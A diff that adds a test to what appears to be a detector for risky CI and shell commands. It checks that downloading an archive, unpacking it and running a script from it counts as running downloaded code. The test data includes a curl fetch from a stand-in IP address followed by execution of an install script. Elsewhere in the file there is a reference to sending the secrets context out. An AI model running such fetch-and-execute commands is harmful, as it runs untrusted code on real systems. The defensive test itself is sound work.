@@ -172,3 +172,15 @@ test('a CI step sending the whole secrets context (toJSON(secrets)) to an unknow
     e('B', ci, '      - run: make test\n', '      - run: make test\n      - run: echo "${{ toJSON(github.event) }}"\n'),
   ]);
 });
+
+test('an archive named by a glob is the download it expands to: what it unpacks and runs is downloaded code', () => {
+  check([
+    x(
+      'A',
+      'wget https://dl.google.com/android/repository/commandlinetools-linux-11076708_latest.zip && unzip -q commandlinetools-*.zip && yes | ./cmdline-tools/bin/sdkmanager --licenses',
+    ),
+    x('D', 'curl -LO https://203.0.113.7/tool-1.2.tar.gz && tar xzf tool-*.tar.gz && ./tool/install.sh'),
+    x('B', 'curl -LO https://203.0.113.7/tool-1.2.tar.gz && tar xzf tool-*.tar.gz && ls tool'),
+    x('B', 'unzip -q build-*.zip && ./dist/run.sh'),
+  ]);
+});
